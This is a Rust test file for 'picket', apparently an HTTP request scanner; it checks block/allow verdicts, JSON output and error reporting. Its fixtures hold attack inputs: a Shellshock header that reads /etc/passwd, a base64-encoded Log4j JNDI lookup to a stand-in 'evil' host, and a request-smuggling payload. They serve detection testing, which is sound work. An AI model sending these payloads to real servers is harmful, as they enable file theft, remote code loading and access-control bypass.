//! `picket scan` and `picket pack validate` as a user runs them: the real binary, real files.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

fn picket(args: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_picket"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run picket");
    // picket may exit (bad pack) before it reads its input: a broken pipe is fine here.
    let _ = child.stdin.take().unwrap().write_all(stdin);
    child.wait_with_output().unwrap()
}

fn lines(out: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect()
}

fn tmp(name: &str, content: &[u8]) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("picket-scan-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p
}

const SHELLSHOCK: &[u8] =
    b"GET /cgi-bin/status HTTP/1.1\r\nHost: a.example\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n";
const BENIGN: &[u8] =
    b"GET /search?q=bash+away+in+the+gym HTTP/1.1\r\nHost: a.example\r\nAccept: */*\r\n\r\n";

#[test]
fn files_give_one_line_each_with_the_design_fields() {
    let a = tmp("attack.http", SHELLSHOCK);
    let b = tmp("benign.http", BENIGN);
    let out = picket(&["scan", a.to_str().unwrap(), b.to_str().unwrap()], b"");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let l = lines(&out);
    assert_eq!(l.len(), 2);
    assert_eq!(l[0]["id"], a.to_str().unwrap());
    assert_eq!(l[0]["verdict"], "block");
    let m = &l[0]["matches"][0];
    assert_eq!(m["id"], "PKT-SHELLSHOCK-FUNC");
    assert_eq!(m["location"], "header:user-agent");
    assert!(m["name"].as_str().unwrap().contains("Shellshock"));
    assert_eq!(l[1]["verdict"], "allow");
    assert_eq!(l[1]["matches"].as_array().unwrap().len(), 0);
}

#[test]
fn jsonl_from_stdin_keeps_ids_and_reports_bad_lines() {
    let mut input = Vec::new();
    for (id, raw) in [("one", SHELLSHOCK), ("two", BENIGN)] {
        let rec = serde_json::json!({"id": id, "raw": String::from_utf8_lossy(raw)});
        input.extend_from_slice(rec.to_string().as_bytes());
        input.push(b'\n');
    }
    input.extend_from_slice(b"{not json\n");
    input.extend_from_slice(br#"{"id": 3, "raw_b64": "R0VUIC8/cT0lMjQlN0JqbmRpOmxkYXA6Ly9ldmlsL2ElN0QgSFRUUC8xLjENCkhvc3Q6IGENCg0K"}"#);
    input.push(b'\n');
    let out = picket(&["scan", "--jsonl"], &input);
    let l = lines(&out);
    assert_eq!(l.len(), 3, "{l:?}");
    assert_eq!(
        (l[0]["id"].as_str(), l[0]["verdict"].as_str()),
        (Some("one"), Some("block"))
    );
    assert_eq!(
        (l[1]["id"].as_str(), l[1]["verdict"].as_str()),
        (Some("two"), Some("allow"))
    );
    assert_eq!(l[2]["id"], 3);
    assert_eq!(l[2]["verdict"], "block");
    assert_eq!(l[2]["matches"][0]["id"], "PKT-LOG4J-JNDI");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("<stdin>: line 3: invalid JSON"), "{err}");
}

#[test]
fn malformed_request_is_reported_not_crashed() {
    let smuggle = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n";
    let out = picket(&["scan"], smuggle);
    assert!(out.status.success());
    let l = lines(&out);
    assert_eq!(l[0]["verdict"], "block");
    let ids: Vec<&str> = l[0]["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap())
        .collect();
    assert!(ids.contains(&"PKT-PROTO-CL-TE"), "{ids:?}");
    // Arbitrary bytes are a request with anomalies, never a crash.
    let out = picket(&["scan"], b"\x00\xff\r\n\r\n\x16\x03\x01garbage");
    assert!(out.status.success());
    assert_eq!(lines(&out)[0]["verdict"], "block");
}

#[test]
fn missing_file_and_bad_pack_are_errors() {
    let out = picket(&["scan", "/nonexistent/req.http"], b"");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read /nonexistent/req.http"));

    let bad = tmp(
        "bad.toml",
        b"[pack]\nname = \"x\"\nversion = \"1\"\n\n[[signature]]\nid = \"B\"\nname = \"b\"\nseverity = \"high\"\ntargets = [\"body\"]\nliterals = [\"x\"]\nregex = \"(\"\n",
    );
    let out = picket(&["scan", "--pack", bad.to_str().unwrap()], BENIGN);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("bad.toml:11: signature B: regex does not compile"),
        "{err}"
    );
    assert!(out.stdout.is_empty());

    let out = picket(&["pack", "validate", bad.to_str().unwrap()], b"");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn builtin_pack_validates_when_written_out() {
    let p = tmp(
        "default.toml",
        picket_signatures::engine::DEFAULT_PACK.as_bytes(),
    );
    let out = picket(&["pack", "validate", p.to_str().unwrap()], b"");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("picket-default"));
}
